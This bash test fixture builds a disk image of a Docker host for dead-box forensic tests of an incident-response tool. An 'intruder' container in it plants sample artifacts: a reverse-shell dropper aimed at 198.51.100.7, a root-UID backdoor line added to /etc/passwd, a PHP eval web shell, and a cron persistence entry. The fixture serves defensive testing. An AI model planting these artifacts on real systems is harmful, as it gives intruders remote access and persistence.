#!/usr/bin/env bash
# tests/lab/deadbox.sh: a real disk image of a Docker host for the dead-box tests and bench: a
# sparse ext4 file, loop-mounted, holds a host tree (/etc/docker/daemon.json naming the data root,
# /srv/docker, /var/log/docker.log, a cirt watch journal) written by a second dockerd with its own
# data root, exec root, pidfile, socket and bridge; lab containers run on it, an intruder plants
# changes and a beacon talks to a container of the same bridge; the live answers are recorded;
# then the daemon stops and the file is unmounted, ready to be mounted read-only elsewhere.
#
#   deadbox.sh build WORK [EXTRA]  build WORK/disk.img (EXTRA more idle containers, for bench/)
#   deadbox.sh mount-ro WORK DIR   mount WORK/disk.img read-only on DIR
#   deadbox.sh clean WORK          stop the daemon, unmount everything, delete the bridge, rm WORK
#   deadbox.sh env                 DB_* variables (eval "$(deadbox.sh env)")
#
# Network safety: the second daemon runs with --iptables=false on its own bridges; the only
# traffic is the beacon's, to a listener container on the same custom network, after `ip route
# get` shows that address is on that network's bridge. One FORWARD accept rule for that bridge
# (the host's FORWARD policy is DROP) is added and removed with it. Nothing is pulled: the lab
# image is loaded with docker save | docker load.
set -euo pipefail

readonly DB_BRIDGE=cirtdb0
readonly DB_BRIDGE_ADDR=10.231.0.1/24
readonly DB_BRIDGE_NET=10.231.0.0/24
readonly DB_NET=cirtdb-net
readonly DB_SUBNET=10.232.0.0/24
readonly DB_C2_IP=10.232.0.10
readonly DB_OLD_IP=10.232.0.50
readonly DB_SOCK=/run/cirtdb.sock
readonly DB_EXEC=/run/cirtdb-exec
readonly DB_PORT=18481
readonly DB_DATA=/srv/docker
readonly LAB_IMAGE=cirt-lab/busybox:1
readonly FW_COMMENT=cirt-deadbox

log() { printf 'deadbox: %s\n' "$*" >&2; }
die() {
	printf 'deadbox: error: %s\n' "$*" >&2
	exit 1
}
d2() { docker -H "unix://$DB_SOCK" "$@"; }

env_vars() {
	cat <<EOF
DB_BRIDGE=$DB_BRIDGE
DB_NET=$DB_NET
DB_SUBNET=$DB_SUBNET
DB_C2_IP=$DB_C2_IP
DB_OLD_IP=$DB_OLD_IP
DB_SOCK=$DB_SOCK
DB_PORT=$DB_PORT
DB_DATA=$DB_DATA
EOF
}

# the custom network's bridge (br-<first 12 of its id>)
net_bridge() { echo "br-$(d2 network inspect -f '{{.Id}}' "$DB_NET" | cut -c1-12)"; }

fw_rules() { # add|del BRIDGE
	local op=-I
	[[ $1 == del ]] && op=-D
	iptables "$op" FORWARD -i "$2" -o "$2" -m comment --comment "$FW_COMMENT" -j ACCEPT 2>/dev/null || true
}

wait_log() { # NAME TEXT: until the container's log holds TEXT (bounded)
	local i
	for i in $(seq 1 100); do
		d2 logs "$1" 2>&1 | grep -q "$2" && return 0
		sleep 0.1
	done
	die "container $1 never logged '$2'"
}

start_daemon() { # WORK
	local w=$1 m=$1/mnt i
	mkdir -p "$m/etc/docker" "$m$DB_DATA" "$m/var/log" "$m/var/lib/cirt/journal" "$DB_EXEC"
	printf '{\n  "data-root": "%s",\n  "log-level": "debug"\n}\n' "$DB_DATA" >"$m/etc/docker/daemon.json"
	echo deadbox-host >"$m/etc/hostname"
	ip link add "$DB_BRIDGE" type bridge
	ip addr add "$DB_BRIDGE_ADDR" dev "$DB_BRIDGE"
	ip link set "$DB_BRIDGE" up
	# never --bridge none (it deletes the host's docker0): our own bridge
	setsid dockerd --data-root "$m$DB_DATA" --exec-root "$DB_EXEC" --pidfile "$w/dockerd.pid" \
		-H "unix://$DB_SOCK" --iptables=false --ip-masq=false --bridge "$DB_BRIDGE" \
		--containerd-namespace cirtdb --containerd-plugins-namespace cirtdb-plugins \
		--log-level debug >>"$m/var/log/docker.log" 2>&1 </dev/null &
	for i in $(seq 1 150); do
		d2 version >/dev/null 2>&1 && return 0
		sleep 0.2
	done
	die "the second dockerd did not answer (see $m/var/log/docker.log)"
}

stop_daemon() { # WORK
	local w=$1 pid i
	pid=$(cat "$w/dockerd.pid" 2>/dev/null || true)
	[[ -n $pid && $(cat "/proc/$pid/comm" 2>/dev/null) == dockerd ]] || return 0
	kill -TERM "$pid"
	for i in $(seq 1 300); do
		[[ -d /proc/$pid ]] || return 0
		sleep 0.1
	done
	kill -KILL "$pid" 2>/dev/null || true
}

build() { # WORK [EXTRA]
	local w=$1 extra=${2:-0} m br i
	[[ $(id -u) -eq 0 ]] || die "must run as root"
	docker image inspect "$LAB_IMAGE" >/dev/null 2>&1 || die "$LAB_IMAGE missing (run: tests/lab/lab.sh up)"
	ip link show "$DB_BRIDGE" >/dev/null 2>&1 && die "bridge $DB_BRIDGE exists: another fixture runs (deadbox.sh clean)"
	[[ -S $DB_SOCK ]] && die "$DB_SOCK exists: another fixture runs (deadbox.sh clean)"
	mkdir -p "$w/mnt" "$w/live"
	m=$w/mnt
	truncate -s "$((400 + extra * 2))M" "$w/disk.img"
	mkfs.ext4 -q -F -O ^has_journal -I 256 "$w/disk.img"
	mount -o loop "$w/disk.img" "$m"
	start_daemon "$w"
	docker save "$LAB_IMAGE" | d2 load -q >/dev/null
	d2 network create --subnet "$DB_SUBNET" --label cirt.lab=1 "$DB_NET" >/dev/null
	br=$(net_bridge)
	local t='trap "exit 0" TERM INT;'
	# a container that exited with a code, long ago (first)
	d2 run --name db-stopped --label cirt.lab=1 --network none "$LAB_IMAGE" sh -c 'echo bye; exit 3' >/dev/null || true
	# the "C2" the beacon talks to: a listener on the custom network
	d2 run -d --name db-c2 --label cirt.lab=1 --network "$DB_NET" --ip "$DB_C2_IP" "$LAB_IMAGE" \
		sh -c "$t"' echo listening; i=0; while [ $i -lt 50 ]; do nc -l -p 4444 & wait $!; i=$((i+1)); done; while :; do sleep 1 & wait $!; done' >/dev/null
	# a web server on the default bridge with a published port
	d2 run -d --name db-web --label cirt.lab=1 -p "127.0.0.1:$DB_PORT:8080" "$LAB_IMAGE" \
		sh -c "$t"' mkdir -p /www; echo ok >/www/index.html; httpd -p 8080 -h /www; echo serving; while :; do sleep 1 & wait $!; done' >/dev/null
	# a container that held an address and was removed: its endpoint is only in freed pages
	d2 run -d --name db-old --label cirt.lab=1 --network "$DB_NET" --ip "$DB_OLD_IP" "$LAB_IMAGE" \
		sh -c "$t"' echo old; while :; do sleep 1 & wait $!; done' >/dev/null
	wait_log db-old old
	d2 rm -f db-old >/dev/null
	wait_log db-c2 listening
	wait_log db-web serving
	# network safety: the beacon's target is on our own custom network's bridge
	ip route get "$DB_C2_IP" | grep -q "dev $br " || die "$DB_C2_IP is not routed to $br: no traffic"
	fw_rules add "$br"
	echo "$br" >"$w/netbridge"
	# cirt watch of the second daemon, journaling into the image
	if [[ -n ${CIRT:-} ]]; then
		"$CIRT" -H "unix://$DB_SOCK" watch --journal "$m/var/lib/cirt/journal" >"$w/watch.out" 2>"$w/watch.err" &
		echo $! >"$w/watch.pid"
		# watching once it says so (conntrack, kernel events and DNS set up): bounded
		local i
		for ((i = 0; i < 120; i++)); do
			grep -q '^cirt: watching' "$w/watch.err" 2>/dev/null && break
			kill -0 "$(cat "$w/watch.pid")" 2>/dev/null || die "cirt watch exited: $(cat "$w/watch.err")"
			sleep 0.25
		done
	fi
	# the beacon: a bounded loop to the listener (5 connections), logging each one
	d2 run -d --name db-beacon --label cirt.lab=1 --network "$DB_NET" "$LAB_IMAGE" \
		sh -c "$t"' i=0; while [ $i -lt 5 ]; do i=$((i+1)); echo "beacon $i to '"$DB_C2_IP"'"; echo hi | nc -w 1 '"$DB_C2_IP"' 4444; sleep 1; done; echo done; while :; do sleep 1 & wait $!; done' >/dev/null
	wait_log db-beacon done
	# the intruder: changes in a known order, more than a second apart (bodyfile times are whole
	# seconds); the local log driver
	d2 run -d --name db-intruder --label cirt.lab=1 --log-driver local "$LAB_IMAGE" \
		sh -c "$t"' echo ready; while [ ! -e /tmp/go ]; do sleep 0.1; done
echo step1; mkdir -p /tmp/.x; printf "#!/bin/sh\nsh -i >& /dev/tcp/198.51.100.7/4444 0>&1\n" >/tmp/.x/dropper.sh; chmod 755 /tmp/.x/dropper.sh; sleep 1.5
echo step2; echo "toor:x:0:0:root:/root:/bin/sh" >>/etc/passwd; sleep 1.5
echo step3; mkdir -p /var/www/html; echo "<?php @eval(\$_POST[\"pass\"]);?>" >/var/www/html/up.php; sleep 1.5
echo step4; rm /bin/true; sleep 1.5
echo step5; mkdir -p /var/spool/cron/crontabs; echo "*/5 * * * * /tmp/.x/dropper.sh" >/var/spool/cron/crontabs/root
echo planted; while :; do sleep 1 & wait $!; done' >/dev/null
	wait_log db-intruder ready
	d2 exec db-intruder touch /tmp/go
	wait_log db-intruder planted
	for i in $(seq 1 "$extra"); do
		d2 create --name "db-many-$i" --label cirt.lab=1 --network "$DB_NET" "$LAB_IMAGE" sleep 1 >/dev/null
	done
	# the live answers, with the daemon
	if [[ -n ${CIRT:-} ]]; then
		local c=("$CIRT" -H "unix://$DB_SOCK")
		"${c[@]}" ps -a --json >"$w/live/ps.json" 2>"$w/live/ps.err" || true
		"${c[@]}" net --json --no-firewall >"$w/live/net.json" 2>"$w/live/net.err" || true
		"${c[@]}" diff db-intruder --json >"$w/live/diff.json" 2>"$w/live/diff.err" || true
		"${c[@]}" scan --all --json --no-progress >"$w/live/scan.json" 2>"$w/live/scan.err" || true
		"${c[@]}" locate "$DB_C2_IP" --json >"$w/live/locate.json" 2>"$w/live/locate.err" || true
		"${c[@]}" logs db-beacon --json >"$w/live/logs-beacon.json" 2>/dev/null || true
		"${c[@]}" logs db-intruder --json >"$w/live/logs-intruder.json" 2>/dev/null || true
		kill -INT "$(cat "$w/watch.pid")" 2>/dev/null || true
		wait "$(cat "$w/watch.pid")" 2>/dev/null || true
	fi
	d2 ps -a --no-trunc --format '{{.Names}} {{.ID}}' >"$w/live/names.txt"
	stop_daemon "$w"
	fw_rules del "$br"
	# the dead host's kernel state goes with it: its bridges
	ip link del "$br" 2>/dev/null || true
	ip link del "$DB_BRIDGE" 2>/dev/null || true
	rm -rf -- "$DB_EXEC"
	sync
	umount "$m"
}

mount_ro() { # WORK DIR
	mkdir -p "$2"
	mount -o loop,ro "$1/disk.img" "$2"
}

clean() { # WORK
	local w=$1 m
	[[ -f $w/watch.pid ]] && kill -INT "$(cat "$w/watch.pid")" 2>/dev/null || true
	stop_daemon "$w"
	[[ -f $w/netbridge ]] && fw_rules del "$(cat "$w/netbridge")"
	# every mount of the image files (and copies), wherever the tests put them
	for m in $(findmnt -rn -o TARGET | grep -F "$w" | sort -r); do
		umount "$m" 2>/dev/null || umount -l "$m" 2>/dev/null || true
	done
	local img dev
	for img in "$w"/*.img; do
		[[ -f $img ]] || continue
		for dev in $(losetup -j "$img" -O NAME -n 2>/dev/null); do
			for m in $(findmnt -rn -S "$dev" -o TARGET | sort -r); do
				umount "$m" 2>/dev/null || umount -l "$m" 2>/dev/null || true
			done
			losetup -d "$dev" 2>/dev/null || true
		done
	done
	ip link del "$DB_BRIDGE" 2>/dev/null || true
	[[ -f $w/netbridge ]] && ip link del "$(cat "$w/netbridge")" 2>/dev/null || true
	rm -rf -- "$DB_EXEC" "$DB_SOCK"
	rm -rf -- "$w"
}

case ${1:-} in
build) build "$2" "${3:-0}" ;;
mount-ro) mount_ro "$2" "$3" ;;
clean) clean "$2" ;;
env) env_vars ;;
*) die "usage: deadbox.sh build WORK [EXTRA] | mount-ro WORK DIR | clean WORK | env" ;;
esac
